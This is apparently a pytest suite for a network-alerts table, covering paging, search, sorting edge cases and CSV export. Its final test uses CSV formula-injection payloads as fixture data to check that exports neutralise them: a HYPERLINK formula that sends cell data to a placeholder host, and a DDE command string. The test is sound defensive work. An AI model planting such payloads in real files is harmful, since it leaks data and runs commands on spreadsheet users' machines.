"""The alerts table pages, searches and sorts on the server.

Checked against the same answer computed plainly with pandas over the whole
table, so a paging, search or ordering mistake shows as a difference.
"""

import numpy as np
import pandas as pd
import pytest
from bokeh.document import Document

from components.readers import normalise_events
from components.views.alerts_table import AlertsTable
from components.views.anomalies import AnomalyView
from components.views.event_summary import EventSummary

EVENTS = 500


@pytest.fixture(scope="module")
def raw() -> pd.DataFrame:
    rng = np.random.default_rng(7)
    sources = rng.choice(["10.0.0.1", "10.0.0.2", "2001:db8::5", None], EVENTS)
    bytes_sent = rng.integers(0, 50, EVENTS).astype("float64")
    bytes_sent[::37] = np.nan
    return pd.DataFrame({
        # One nanosecond apart: an ordering through floats would tie them.
        "timestamp": pd.Timestamp("2018-12-22", tz="UTC")
        + pd.to_timedelta(rng.permutation(EVENTS), unit="ns"),
        "src_ip": sources, "dst_ip": rng.choice(["8.8.8.8", "1.1.1.1"], EVENTS),
        "protocol": rng.choice(["tcp", "udp", "icmp"], EVENTS),
        "bytes": bytes_sent, "duration": rng.random(EVENTS),
        "ml_score": rng.random(EVENTS),
    })


@pytest.fixture
def summary(raw) -> EventSummary:
    return EventSummary(normalise_events(raw, "events.parquet"))


def shown(summary: EventSummary, threshold: float = 0.3, **choices) -> AlertsTable:
    table = AlertsTable(page_size=20)
    table.show(summary, summary.alert_rows(threshold, []))
    # Columns to sort by are offered once the table knows its events.
    table.param.update(**choices)
    return table


def expected(summary: EventSummary, threshold: float) -> pd.DataFrame:
    """The alerts as the table shows them, riskiest first, computed plainly."""
    table = summary.table_frame
    alerts = table[table["risk"] >= threshold].sort_values(
        "risk", ascending=False, kind="stable")
    return alerts.rename(columns={"timestamp": "time (UTC)"}).reset_index(drop=True)


def test_pages_cover_every_alert_once_in_order(summary):
    table = shown(summary)
    want = expected(summary, 0.3)
    assert table.matches == len(want) > 3 * table.page_size
    pages = []
    for page in range(1, table.pages + 1):
        table.page = page
        pages.append(table._table.value)
        assert len(table._table.value) <= table.page_size
    got = pd.concat(pages, ignore_index=True)
    assert got["risk"].tolist() == want["risk"].tolist()
    assert got["time (UTC)"].tolist() == want["time (UTC)"].tolist()


def test_the_widget_holds_one_page_only(summary):
    table = shown(summary)
    assert len(table._table.value) == table.page_size
    table.page = table.pages
    assert 0 < len(table._table.value) <= table.page_size


def test_page_beyond_the_last_is_the_last(summary):
    table = shown(summary)
    table.page = 10_000
    assert table.page == table.pages
    assert "page" in table._position.object


def test_search_matches_any_text_column_in_any_case(summary):
    table = shown(summary, search="2001:DB8")
    want = expected(summary, 0.3)
    want = want[want["src_ip"].astype(str).str.contains("2001:db8")]
    assert table.matches == len(want) > 0
    assert table.rows()["risk"].tolist() == want["risk"].tolist()

    table.search = "udp"
    assert set(table.rows()["protocol"]) == {"udp"}
    table.search = "no such thing"
    assert table.matches == 0 and table._table.value.empty
    assert table._position.object == "No alert matches."


@pytest.mark.parametrize("column", ["bytes", "time (UTC)", "src_ip", "protocol"])
@pytest.mark.parametrize("order", ["descending", "ascending"])
def test_sorting_orders_all_alerts_with_missing_values_last(summary, column, order):
    stored = "timestamp" if column == "time (UTC)" else column
    table = shown(summary, sort_by=stored, order=order)
    got = table.rows()[column]
    want = expected(summary, 0.3)
    if isinstance(want[column].dtype, pd.CategoricalDtype):
        want[column] = want[column].astype(str).where(want[column].notna())
        got = got.astype(str).where(got.notna())
    want = want.sort_values(column, ascending=order == "ascending",
                            kind="stable", na_position="last")[column]
    pd.testing.assert_series_equal(got.reset_index(drop=True),
                                   want.reset_index(drop=True), check_names=False)


def test_csv_holds_every_matching_alert_in_the_shown_order(summary):
    table = shown(summary, search="10.0.0", sort_by="bytes")
    written = pd.read_csv(table.csv())
    assert len(written) == table.matches > table.page_size
    assert written["risk"].tolist() == pytest.approx(table.rows()["risk"].tolist())
    first_page = table._table.value
    assert written["src_ip"].head(len(first_page)).tolist() == (
        first_page["src_ip"].astype(str).tolist())


def test_a_threshold_move_goes_back_to_the_first_page(raw):
    view = AnomalyView(data=raw)
    view.__panel__().get_root(Document())
    view.threshold = 0.2
    view.alerts_table.page = 3
    view.alerts_table.search = "10.0.0"
    view.threshold = 0.5
    table = view.alerts_table
    assert table.page == 1 and table.search == "10.0.0"
    assert table.matches == int(((view.summary.table_frame["risk"] >= 0.5)
                                 & view.summary.table_frame["src_ip"].astype(str)
                                 .str.startswith("10.0.0")).sum())


def odd_values_summary() -> EventSummary:
    times = ["2023-05-01T00:00:00Z", "2920-01-01T00:00:00Z", "2286-01-01T00:00:00Z",
             None, "2023-05-01T00:00:01Z", "4821-06-01T00:00:00Z"]
    return EventSummary(normalise_events(pd.DataFrame({
        "timestamp": pd.to_datetime(times, utc=True, format="ISO8601"),
        "src_ip": "10.0.0.1", "dst_ip": "10.0.0.2", "protocol": "tcp",
        "bytes": [5.0, np.inf, np.nan, -np.inf, 7.0, 1.0],
        "duration": 1.0,
        "action": ["Block", "allow", None, "ALLOW", "deny", "10"],
        "ml_score": [0.9, 0.8, 0.7, 0.6, 0.5, 0.4],
    }), "odd.csv"))


@pytest.mark.parametrize(("column", "descending", "expected"), [
    # Text ignores case, as the search does; ties stay riskiest first. A
    # missing action reads "unknown", as the table shows it.
    ("action", False, ["10", "allow", "ALLOW", "Block", "deny", "unknown"]),
    ("action", True, ["unknown", "deny", "Block", "allow", "ALLOW", "10"]),
    # Infinities are values, not missing.
    ("bytes", True, [np.inf, 7.0, 5.0, 1.0, -np.inf, np.nan]),
    ("bytes", False, [-np.inf, 1.0, 5.0, 7.0, np.inf, np.nan]),
])
def test_text_and_infinite_values_sort_as_an_analyst_expects(column, descending,
                                                             expected):
    summary = odd_values_summary()
    rows = summary.ordered(summary.alert_rows(0.0, []), column, descending)
    got = summary.alerts_table(rows, [column])[column].tolist()
    assert [None if pd.isna(v) else v for v in got] == [
        None if (isinstance(v, float) and np.isnan(v)) or v is None else v
        for v in expected]


def test_dates_past_2262_sort_in_time_order():
    summary = odd_values_summary()
    rows = summary.ordered(summary.alert_rows(0.0, []), "timestamp", False)
    years = [None if pd.isna(t) else t.year for t in
             summary.alerts_table(rows, ["timestamp"])["time (UTC)"]]
    assert years == [2023, 2023, 2286, 2920, 4821, None]


def test_csv_holds_at_most_the_limit_and_says_so(summary):
    table = shown(summary, threshold=-1.0)
    table.csv_limit = 100
    assert table.matches == EVENTS > table.csv_limit
    assert len(pd.read_csv(table.csv())) == 100
    assert table._download.label == "Download first 100 alerts (CSV)"
    table.search = "2001:db8"
    table.csv_limit = 200
    assert table.matches < 200
    assert table._download.label == "Download alerts (CSV)"
    assert len(pd.read_csv(table.csv())) == table.matches


def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
    formulas = ['=HYPERLINK("http://192.0.2.1/"&A1,"click")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)", "-2+3", "\tTAB", "plain"]
    summary = EventSummary(normalise_events(pd.DataFrame({
        "timestamp": pd.date_range("2018-12-22", periods=6, freq="s"),
        "src_ip": "10.0.0.1", "dest_ip": "10.0.0.2", "host": formulas,
        "action": formulas, "ml_score": np.linspace(0.9, 0.4, 6),
    }), "formulas.csv"))
    table = AlertsTable()
    table.show(summary, summary.alert_rows(0.0, []))
    written = pd.read_csv(table.csv(), keep_default_na=False)
    for column in ("host", "action"):
        assert written[column].tolist()[:5] == ["'" + text for text in formulas[:5]]
        assert written[column].tolist()[5] == "plain"
    # The table itself shows them unchanged.
    assert table._table.value["host"].astype(str).tolist() == formulas
